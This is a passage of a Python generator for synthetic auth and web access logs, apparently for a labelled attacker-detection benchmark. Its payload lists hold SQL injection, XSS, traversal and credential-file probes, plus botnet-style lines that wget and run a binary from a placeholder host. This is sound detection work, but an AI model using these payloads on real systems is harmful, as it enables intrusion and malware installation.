                elif form == 1:
                    self.emit(t, "postfix/pickup", 2231, "%010X: uid=0 from=<root>" % rng.getrandbits(40))
                elif form == 2:
                    self.emit(t, "polkitd", 611, "Registered Authentication Agent for unix-process:%d:%d (system bus name :1.%d [/usr/bin/pkttyagent --notify-fd 5 --fallback], object path /org/freedesktop/PolicyKit1/AuthenticationAgent, locale en_US.UTF-8)" % (rng.randint(1000, 99999), rng.randint(1000000, 9999999), rng.randint(100, 999)))
                elif form == 3:
                    self.emit(t, "su", None, "(to postgres) alice on pts/1")
                    self.emit(t, "su", None, "pam_unix(su-l:session): session opened for user postgres(uid=108) by alice(uid=1001)")
                    self.emit(t + rng.uniform(5, 300), "su", None, "pam_unix(su-l:session): session closed for user postgres")
                    made += 2
                elif form == 4:
                    self.listener(t, "error: beginning MaxStartups throttling")
                    self.listener(t + rng.uniform(20, 200), "exited MaxStartups throttling after 00:0%d:%02d, %d connections dropped" % (rng.randint(0, 3), rng.randint(0, 59), rng.randint(1, 40)))
                    made += 1
                else:
                    self.emit(t, "systemd-logind", self.logind_pid, "Watching system buttons on /dev/input/event0 (Power Button)")
                made += 1

    def restart_lines(self):
        t = self.upgrade
        self.listener(t - 0.5, "Received signal 15; terminating.")
        self.listener(t, "Server listening on 0.0.0.0 port 22.")
        self.listener(t, "Server listening on :: port 22.")

    # -- all ---------------------------------------------------------------------
    def generate(self):
        rng = self.rng
        attack_budget = self.n * rng.uniform(0.24, 0.34)
        self.gen_attackers(attack_budget)
        self.gen_humans()
        self.gen_automation(self.n * 0.28)
        self.restart_lines()
        missing = self.n - len(self.recs)
        if missing > 0:
            self.gen_noise(missing)
        recs = self.recs
        recs.sort()
        # Exactly n lines: drop surplus cron lines (they carry no address).
        surplus = len(recs) - self.n
        if surplus > 0:
            cron_idx = [i for i, r in enumerate(recs) if r[2] == "CRON"]
            drop = set(rng.sample(cron_idx, min(surplus, len(cron_idx))))
            recs = [r for i, r in enumerate(recs) if i not in drop]
            if len(recs) > self.n:
                raise SystemExit("auth.log: cannot trim to %d lines" % self.n)
        self.recs = recs
        while len(self.recs) < self.n:  # top up (rare): more cron
            t = self.start + rng.uniform(0, AUTH_SPAN - 60)
            bisect.insort(self.recs, (t, 0, "CRON", rng.randint(1000, 4000000), "pam_unix(cron:session): session closed for user root"))

    def write(self, path):
        rng = random.Random("%s/pids" % self.rng.random())
        pid_of = {}
        next_pid = rng.randint(5000, 20000)
        ts_cache = {}
        out = []
        for t, _, prog, pid, msg in self.recs:
            sec = int(t)
            ts = ts_cache.get(sec)
            if ts is None:
                d = datetime.fromtimestamp(sec, tz=timezone.utc)
                ts = "%s %2d %02d:%02d:%02d" % (MONTHS[d.month - 1], d.day, d.hour, d.minute, d.second)
                ts_cache[sec] = ts
            if prog == "S":
                prog = "sshd" if t < self.upgrade else "sshd-session"
            if pid is None:
                out.append("%s %s %s: %s\n" % (ts, HOST, prog, msg))
                continue
            if pid < 0:
                real = pid_of.get(pid)
                if real is None:
                    next_pid += rng.randint(1, 25)
                    if next_pid > 4194000:
                        next_pid = 400
                    real = pid_of[pid] = next_pid
                pid = real
            out.append("%s %s %s[%d]: %s\n" % (ts, HOST, prog, pid, msg))
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.writelines(out)

    def truth(self):
        present = set()
        for ip in list(self.attackers) + list(self.benign) + list(self.unscored):
            present.add(ip)
        overlap = (set(self.attackers) & self.benign) | (set(self.attackers) & self.unscored) | (self.benign & self.unscored)
        if overlap:
            raise SystemExit("auth: address in two classes: %s" % sorted(overlap)[:5])
        return {
            "start": iso(self.start), "end": iso(self.end),
            "sshd_session_from": iso(self.upgrade),
            "attackers": sorted(self.attackers),
            "benign": sorted(self.benign),
            "unscored": sorted(self.unscored),
            "profiles": dict(sorted(self.attackers.items())),
        }


SUDO_CMDS = [
    "/usr/bin/systemctl status nginx", "/usr/bin/systemctl restart app.service", "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y", "/usr/bin/journalctl -u app -n 200", "/usr/bin/tail -f /var/log/nginx/error.log",
    "/usr/bin/vim /etc/nginx/sites-available/shop", "/usr/sbin/nginx -t", "/usr/bin/docker ps",
    "/usr/bin/du -sh /var/lib/postgresql", "/usr/bin/less /var/log/auth.log", "/usr/bin/certbot renew --dry-run",
]


def iso(ts):
    return datetime.fromtimestamp(ts, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


# ---------------------------------------------------------------------------
# access.log

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
]
SEARCH_BOTS = [
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0x42F94000, 19),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0x42F94000, 19),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", 0x9D370000, 16),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0x5F6C8000, 17),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", 0x11000000, 8),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 0x14BF2D00, 24),
]
ATTACK_SCAN_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.98 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:62.0) Gecko/20100101 Firefox/62.0",
    "python-requests/2.31.0", "python-requests/2.28.1", "Go-http-client/1.1", "curl/7.88.1", "curl/8.5.0",
    "Python-urllib/3.10", "Mozilla/5.0 (l9scan/2.0.739383e2638313e23363e2939313; +https://leakix.net)",
    "-", "Hello World", "Mozilla/5.0", "fasthttp", "aiohttp/3.9.1", "okhttp/4.9.2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 14_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.2 Mobile/15E148 Safari/604.1",
]
TOOL_UAS = {
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap": "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "wpscan": "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster": "gobuster/3.6",
    "ffuf": "Fuzz Faster U Fool v2.1.0-dev",
    "feroxbuster": "feroxbuster/2.10.4",
    "dirbuster": "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "whatweb": "WhatWeb/0.5.5",
    "hydra": "Mozilla/4.0 (Hydra)",
    "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
    "wfuzz": "Wfuzz/3.1.0",
}

WORDS = ("trail runner merino wool crew sock jacket rain shell down parka fleece hoodie cargo pant chino "
         "linen shirt denim boot leather belt canvas tote backpack daypack bottle flask beanie cap glove "
         "scarf tee polo sweater cardigan vest short legging tight bra sneaker sandal slipper loafer oxford "
         "waterproof insulated packable recycled organic cotton alpaca cashmere classic slim relaxed").split()
COLORS = "black navy olive sand rust grey white forest burgundy ochre".split()
SEARCHES = [
    "men's running shoes", "women's rain jacket", "levi's 501", "o'neill wetsuit", "rock 'n' roll tee", "dr. martens 1460",
    "merino socks", "gift card", "union jack mug", "select wool blend", "script font poster", "drop shoulder sweater",
    "kids' boots size 30", "back to school", "black friday", "sale", "gore-tex", "waterproof hiking boots women",
    "beanie", "café au lait mug", "naïve art print", "größe 42", "100% cotton", "a&b shirt", "size 10 1/2",
    "tote bag", "north face", "fleece -hoodie", "\"wool cap\"", "jacket & pants set", "order #48213", "return policy",
]
REFERRERS = ["-", "-", "-", "https://www.google.com/", "https://www.google.com/", "https://www.google.de/",
             "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/", "https://www.facebook.com/",
             "https://l.instagram.com/", "https://www.reddit.com/", "android-app://com.google.android.gm/"]

SCAN_PATHS = [
    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/api/.env", "/app/.env", "/backend/.env", "/admin/.env",
    "/laravel/.env", "/core/.env", "/.git/config", "/.git/HEAD", "/.git/index", "/.gitlab-ci.yml", "/.svn/entries",
    "/.hg/hgrc", "/.DS_Store", "/.aws/credentials", "/.docker/config.json", "/.ssh/id_rsa", "/id_rsa", "/.htpasswd",
    "/.vscode/sftp.json", "/sftp-config.json", "/.idea/workspace.xml", "/.circleci/config.yml", "/docker-compose.yml",
    "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wordpress/wp-admin/setup-config.php",
    "/wp-config.php.bak", "/wp-config.php~", "/wp-config.old", "/wp-content/debug.log", "/wp-includes/wlwmanifest.xml",
    "//wp/wp-includes/wlwmanifest.xml", "/blog/wp-includes/wlwmanifest.xml", "/xmlrpc.php", "/wp-json/wp/v2/users",
    "/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/", "/myadmin/", "/mysql/admin/", "/admin/phpmyadmin/",
    "/adminer.php", "/phpinfo.php", "/info.php", "/test.php", "/i.php", "/php.php", "/_profiler/phpinfo",
    "/server-status", "/server-info", "/solr/admin/info/system?wt=json", "/manager/html", "/jmx-console/",
    "/console/", "/actuator/env", "/actuator/health", "/actuator/gateway/routes", "/api/v1/pods", "/containers/json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale", "/cgi-bin/test.cgi",
    "/boaform/admin/formLogin", "/GponForm/diag_Form?images/", "/HNAP1/", "/owa/auth/logon.aspx", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
    "/remote/login", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/vpn/../vpns/cfg/smb.conf", "/global-protect/login.esp", "/+CSCOE+/logon.html", "/dana-na/auth/url_default/welcome.cgi",
    "/Telerik.Web.UI.WebResource.axd?type=rau", "/telescope/requests", "/debug/default/view?panel=config",
    "/storage/logs/laravel.log", "/config.json", "/config.php.bak", "/config.yml", "/configuration.php", "/settings.py",
    "/database.yml", "/config/database.yml", "/backup.zip", "/backup.sql", "/backup.tar.gz", "/db.sql", "/dump.sql",
    "/site.tar.gz", "/www.zip", "/wordpress.zip", "/shop.zip", "/web.config.bak", "/index.php.bak", "/shell.php",
    "/cmd.php", "/wso.php", "/alfa.php", "/up.php", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/wp-content/themes/twentytwenty/404.php", "/administrator/index.php", "/user/login", "/jenkins/login",
    "/login.action", "/struts2-showcase/", "/geoserver/web/", "/webui/", "/SDK/webLanguage", "/evox/about", "/sdk",
    "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/favicon.ico", "/ads.txt", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
    "/?XDEBUG_SESSION_START=phpstorm", "/mifs/.;/services/LogService", "/webmail/", "/roundcube/", "/mail/", "/horde/",
    "/mysqladmin/", "/typo3/", "/xampp/phpmyadmin/", "/cgi-bin/mysqladmin.cgi", "/wp-signup.php", "/owncloud/status.php",
    "/nextcloud/status.php", "/_ignition/execute-solution", "/api/jsonws/invoke", "/hudson", "/portal/redlion",
    "/.well-known/acme-challenge/../../etc/passwd", "/etc/passwd", "/proc/self/environ", "/win.ini",
]
DISCOVERY_WORDS = ("admin administrator backup backups old new test tests dev development staging stage api v1 v2 v3 "
                   "uploads upload images img files file download downloads private public tmp temp cache log logs "
                   "data db database sql mysql include includes inc lib libs src source scripts script cgi-bin bin "
                   "config conf configs settings setup install installer update updates assets static media docs doc "
                   "documentation help support portal panel cpanel dashboard console manager management control user "
                   "users account accounts member members login logout register signup auth oauth sso secure security "
                   "shop store cart checkout order orders payment payments invoice billing search blog news forum "
                   "wiki cms site web www home index main default app apps application service services server "
                   "status health metrics monitor monitoring stats statistics report reports export import archive "
                   "archives dump dumps sitemap rss feed xml json php asp aspx jsp html htm cgi pl py rb sh bak zip "
                   "tar gz rar 7z swf fla old1 orig copy ~ vendor node_modules bower_components composer.json "
                   "package.json yarn.lock Gemfile Dockerfile Makefile README.md LICENSE CHANGELOG.txt").split()
DISCOVERY_EXT = ["", "", "", "/", ".php", ".html", ".bak", ".txt", ".zip", ".asp", ".old"]

SQLI = [
    "%s AND 1=1", "%s AND 1=2", "%s' AND 'xYzW'='xYzW", "%s) AND 8362=8362 AND (9421=9421", "%s AND SLEEP(5)",
    "%s' AND (SELECT 7301 FROM (SELECT(SLEEP(5)))abcD)-- qXyz", "%s UNION ALL SELECT NULL,NULL,CONCAT(0x7176627a71,0x4a6b4c,0x716a6b7071)-- -",
    "-1234 OR 6289=6289", "%s AND EXTRACTVALUE(4577,CONCAT(0x5c,0x7178787a71,(SELECT (ELT(4577=4577,1))),0x716b627671))",
    "%s;SELECT PG_SLEEP(5)--", "%s';WAITFOR DELAY '0:0:5'--", "%s ORDER BY 1-- Xyzq", "%s),('\".\",'.,",
    "%s AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#",
    "%s' OR '1'='1", "%s' OR 1=1-- -", "1' and 1=convert(int,(select @@version))--", "%s\" AND \"7125\"=\"7125",
    "%s RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))", "%s AND 5792=5792", "%s AND 5792=1234",
    "(SELECT CHAR(113)||CHAR(122)||CHAR(118)||CHAR(107)||CHAR(113))", "%s' UNION SELECT username,password FROM users--",
]
XSS = [
    "<script>alert(1)</script>", "\"><svg/onload=alert(document.domain)>", "'\"><img src=x onerror=prompt(1)>",
    "javascript:alert(1)", "<details open ontoggle=confirm(1)>", "<iframe src=javascript:alert(1)>",
    "\"-alert(1)-\"", "';alert(String.fromCharCode(88,83,83))//", "<body onload=alert('xss')>", "{{7*7}}", "${7*7}",
    "<ScRiPt>prompt(document.cookie)</ScRiPt>", "%3Cscript%3Ealert(1)%3C/script%3E",
]
TRAVERSAL = [
    "../../../../etc/passwd", "....//....//....//etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "../../../../../../windows/win.ini",
    "..\\..\\..\\..\\windows\\win.ini", "/proc/self/environ", "file:///etc/passwd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "expect://id",
]
RCE = [
    "/shell?cd+/tmp;rm+-rf+*;wget+http://%s/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws",
    "/cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/bin/sh", "/?x=${jndi:ldap://%s:1389/a}", "/index.php?cmd=;id",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://%s/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
    "/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
]


def quote(s, safe="/=&?"):
    out = []
    for ch in s:
        if ch.isalnum() or ch in "-._~" or ch in safe:
            out.append(ch)
        elif ch == " ":
            out.append("%20")
        else:
            out.extend("%%%02X" % b for b in ch.encode("utf-8"))
    return "".join(out)


def quote_plus(s):
    return quote(s, safe="").replace("%20", "+")


class AccessLog:
    def __init__(self, seed, n_lines, end_ts):
        self.rng = random.Random("%s/access" % seed)
        self.n = n_lines
        self.scale = n_lines / 1_000_000
        self.end = end_ts
        self.start = end_ts - ACCESS_SPAN
        self.addrs = Addrs(self.rng)
        self.recs = []   # (t, seq, ip, user, request, status, bytes, referer, ua, droppable)
        self.seq = 0
        self.attackers = {}
        self.benign = set()
        self.unscored = set()
        rng = self.rng
        self.products = ["%s-%s-%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.choice(COLORS)) for _ in range(400)]
        self.categories = sorted(set(rng.choice(WORDS) + "s" for _ in range(40)))
        self.posts = ["/blog/%d/%02d/%s-%s-%s/" % (rng.choice([2023, 2024, 2025, 2026]), rng.randint(1, 12),
                                                    rng.choice(WORDS), rng.choice(["guide", "care", "review", "story", "tips", "news"]), rng.choice(WORDS))
                      for _ in range(120)]
        self.removed = ["/products/%s-%s-%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.choice(COLORS)) for _ in range(60)] + \
                       ["/blog/2022/%02d/%s-%s/" % (rng.randint(1, 12), rng.choice(WORDS), rng.choice(WORDS)) for _ in range(30)]
        self.assets = ["/static/css/main.3f9a1c.css", "/static/js/runtime.8c1e02.js", "/static/js/vendor.a91f3b.js",
                       "/static/js/app.5d2e7f.js", "/static/fonts/inter-var.woff2", "/static/img/logo.svg", "/favicon.ico"]
        self.blog_assets = ["/blog/wp-content/themes/shopblog/style.css?ver=6.7.1", "/blog/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
                            "/blog/wp-includes/css/dist/block-library/style.min.css?ver=6.7.1",
                            "/blog/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=6.0",
                            "/blog/wp-content/themes/shopblog/js/navigation.js?ver=1.4", "/favicon.ico"]
        self.server_ip = self.addrs.v4()

    def emit(self, t, ip, req, status, size, ref="-", ua="-", user="-", droppable=False):
        self.seq += 1
        self.recs.append((t, self.seq, ip, user, req, status, size, ref, ua, droppable))

    # -- benign -------------------------------------------------------------------
    def product_url(self):
        rng = self.rng
        return "/products/%s" % rng.choice(self.products)

    def page_url(self):
        rng = self.rng
        r = rng.random()
        if r < 0.12:
            return "/"
        if r < 0.40:
            u = self.product_url()
            if rng.random() < 0.2:
                u += "?color=%s&size=%s" % (rng.choice(COLORS), rng.choice(["XS", "S", "M", "L", "XL", "42", "10.5"]))
            return u
        if r < 0.58:
            u = "/category/%s" % rng.choice(self.categories)
            params = []
            if rng.random() < 0.5:
                params.append("page=%d" % rng.randint(2, 9))
            if rng.random() < 0.3:
                params.append("sort=%s" % rng.choice(["price_asc", "price_desc", "newest", "popular"]))
            if rng.random() < 0.2:
                params.append("price_min=%d&price_max=%d" % (rng.choice([0, 20, 50]), rng.choice([100, 150, 300])))
            return u + ("?" + "&".join(params) if params else "")
        if r < 0.70:
            q = rng.choice(SEARCHES) if rng.random() < 0.6 else " ".join(rng.sample(WORDS, rng.randint(1, 3)))
            return "/search?q=%s%s" % (quote_plus(q), "&page=%d" % rng.randint(2, 4) if rng.random() < 0.2 else "")
        if r < 0.82:
            return rng.choice(self.posts)
        return rng.choice(["/about", "/contact", "/cart", "/account", "/account/orders", "/help/shipping", "/help/returns",
                           "/blog/", "/stores", "/gift-cards", "/sale", "/new-arrivals"])

    def pageview(self, t, ip, ua, ref, first, returning, h2):
        rng = self.rng
        proto = "HTTP/2.0" if h2 else "HTTP/1.1"
        url = self.page_url()
        status = 200
        if rng.random() < 0.01:
            url = rng.choice(self.removed)
            status = 404
        elif url.startswith("/account") and rng.random() < 0.5:
            status = 302
        elif url in ("/blog", "/sale") or (rng.random() < 0.01):
            status = 301
        self.emit(t, ip, "GET %s %s" % (url, proto), status, rng.randint(9000, 70000) if status == 200 else rng.choice([162, 4521]), ref, ua)
        page_ref = "https://shop.example.com%s" % url.split("?")[0]
        blog = url.startswith("/blog")
        ta = t
        if first:
            for a in (self.blog_assets if blog else self.assets):
                ta += rng.uniform(0, 0.3)
                if returning:
                    self.emit(ta, ip, "GET %s %s" % (a, proto), 304, 0, page_ref, ua, droppable=True)
                else:
                    self.emit(ta, ip, "GET %s %s" % (a, proto), 200, rng.randint(900, 240000), page_ref, ua, droppable=True)
            if "iPhone" in ua or "iPad" in ua or "Macintosh" in ua and rng.random() < 0.3:
                for a in ("/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"):
                    self.emit(ta, ip, "GET %s %s" % (a, proto), 404, 153, "-", ua)
        n_img = rng.randint(2, 24) if not blog else rng.randint(1, 6)
        for _ in range(n_img):
            ta += rng.uniform(0, 0.25)
            if blog:
                img = "/blog/wp-content/uploads/%d/%02d/%s-%dx%d.jpg" % (rng.choice([2024, 2025, 2026]), rng.randint(1, 12), rng.choice(WORDS), 1024, 683)
            else:
                img = "/static/img/products/%d-%d.webp" % (rng.randint(1000, 1399), rng.choice([320, 640, 960]))
            if returning and rng.random() < 0.5:
                self.emit(ta, ip, "GET %s %s" % (img, proto), 304, 0, page_ref, ua, droppable=True)
            else:
                self.emit(ta, ip, "GET %s %s" % (img, proto), 200, rng.randint(4000, 160000), page_ref, ua, droppable=True)
        if blog and rng.random() < 0.05:
            self.emit(ta, ip, "GET /blog/wp-content/uploads/2021/03/spring-lookbook-banner.jpg %s" % proto, 404, 4521, page_ref, ua)
        if url in ("/cart", "/account", "/account/orders") or rng.random() < 0.15:
            self.emit(ta + rng.uniform(0.1, 1), ip, "GET /api/v1/cart %s" % proto, 200, rng.randint(80, 3000), page_ref, ua)
        if url.startswith("/products") and rng.random() < 0.5:
            self.emit(ta + rng.uniform(0.2, 2), ip, "GET /api/v1/recommendations?product=%s&limit=8 %s" % (url.split("/")[2].split("?")[0], proto), 200, rng.randint(1500, 9000), page_ref, ua)
        if url.startswith("/products") and rng.random() < 0.08:
            self.emit(ta + rng.uniform(3, 30), ip, "POST /api/v1/cart %s" % proto, 201, rng.randint(200, 900), page_ref, ua)
        return page_ref

    def session(self, t, ip, ua, logins):
        rng = self.rng
        h2 = "Mozilla" in ua and rng.random() < 0.85
        ref = rng.choice(REFERRERS)
        returning = rng.random() < 0.3
        n_pages = min(40, 1 + int(rng.expovariate(1 / 4.5)))
        first = True
        if ref == "-" and rng.random() < 0.3:
            pass
        for i in range(n_pages):
            if t >= self.end:
                return
            ref = self.pageview(t, ip, ua, ref if first else ref, first, returning, h2)
            first = False
            if logins and rng.random() < 0.12:
                t = self.login(t + rng.uniform(5, 30), ip, ua, h2)
            t += min(900, max(2, rng.lognormvariate(math.log(25), 1.1)))

    def login(self, t, ip, ua, h2):
        rng = self.rng
        proto = "HTTP/2.0" if h2 else "HTTP/1.1"
        self.emit(t, ip, "GET /account/login %s" % proto, 200, 7421, "https://shop.example.com/", ua)
        r = rng.random()
        typos = 0 if r < 0.9 else (1 if r < 0.98 else 2)
        for _ in range(typos):
            t += rng.uniform(6, 25)
            self.emit(t, ip, "POST /account/login %s" % proto, 200, 7583, "https://shop.example.com/account/login", ua)
        t += rng.uniform(6, 25)
        self.emit(t, ip, "POST /account/login %s" % proto, 302, 0, "https://shop.example.com/account/login", ua)
        self.emit(t + 0.3, ip, "GET /account %s" % proto, 200, 15200, "https://shop.example.com/account/login", ua)
        return t

    def diurnal_time(self):
        rng = self.rng
        while True:
            h = rng.uniform(0, 24)
            w = 0.25 + 0.75 * (0.5 - 0.5 * math.cos((h - 3) / 24 * 2 * math.pi))
            if rng.random() < w:
                return self.start + h * 3600

    def gen_visitors(self, budget):
        rng = self.rng
        start_len = len(self.recs)
        shared = [self.addrs.v4() for _ in range(max(5, int(60 * self.scale)))]  # CGNAT, offices, schools
        regulars = []
        while len(self.recs) - start_len < budget:
            r = rng.random()
            if r < 0.08:
                ip = rng.choice(shared)
            elif r < 0.25 and regulars:
                ip = rng.choice(regulars)
            elif r < 0.45:
                p64 = self.addrs.new64()
                ip = self.addrs.v6_in(p64, "privacy")
                if rng.random() < 0.3:
                    regulars.append(ip)
            else:
                ip = self.addrs.v4()
                if rng.random() < 0.3:
                    regulars.append(ip)
            self.benign.add(ip)
            self.session(self.diurnal_time(), ip, rng.choice(BROWSER_UAS), logins=True)

    def gen_bots_and_services(self):
        rng = self.rng
        # Search engines: polite, steady crawl of pages, robots.txt, sitemap, a few 404s on removed pages.
        for ua, base, bits in SEARCH_BOTS:
            n_ips = rng.randint(3, 12)
            ips = []
            for _ in range(n_ips):
                if "Googlebot" in ua and rng.random() < 0.3:
                    ips.append(self.addrs.v6_in((0x2001 << 48) | (0x4860 << 32) | (0x4801 << 16) | rng.randint(0, 0xFF), "server"))
                else:
                    ips.append(self.addrs.v4(base + rng.randint(0, (1 << (32 - bits)) - 1)))
            rate = loguniform(rng, 0.002, 0.05) * max(0.2, self.scale)  # requests / s
            t = self.start + rng.expovariate(rate)
            while t < self.end:
                ip = rng.choice(ips)
                r = rng.random()
                if r < 0.03:
                    self.emit(t, ip, "GET /robots.txt HTTP/1.1", 200, 312, "-", ua)
                elif r < 0.05:
                    self.emit(t, ip, "GET /sitemap.xml HTTP/1.1", 200, 48211, "-", ua)
                elif r < 0.08:
                    self.emit(t, ip, "GET %s HTTP/1.1" % rng.choice(self.removed), 404, 4521, "-", ua)
                elif r < 0.1:
                    self.emit(t, ip, "GET /blog HTTP/1.1", 301, 162, "-", ua)
                else:
                    self.emit(t, ip, "GET %s HTTP/1.1" % self.page_url(), 200, rng.randint(9000, 70000), "-", ua)
                t += rng.expovariate(rate)
            self.benign.update(ips)
        # Uptime monitors.
        for ip in [self.addrs.v4() for _ in range(3)]:
            t = self.start + rng.uniform(0, 300)
            while t < self.end:
                self.emit(t, ip, "HEAD / HTTP/1.1", 200, 0, "https://shop.example.com", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
                t += 300
            self.benign.add(ip)
        # Feed readers.
        for ip, ua in ((self.addrs.v4(), "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 31 subscribers; )"),
                       (self.addrs.v6("server"), "NetNewsWire (RSS Reader; https://netnewswire.com/)"),
                       (self.addrs.v4(), "Tiny Tiny RSS/24.11 (https://tt-rss.org/)")):
            t = self.start + rng.uniform(0, 1800)
            while t < self.end:
                self.emit(t, ip, "GET /blog/feed/ HTTP/1.1", rng.choice([200, 304, 304]), rng.choice([0, 38211]), "-", ua)
                t += rng.choice([900, 1800, 3600])
            self.benign.add(ip)
        # WordPress cron loopback from the server itself.
        t = self.start + rng.uniform(0, 120)
        while t < self.end:
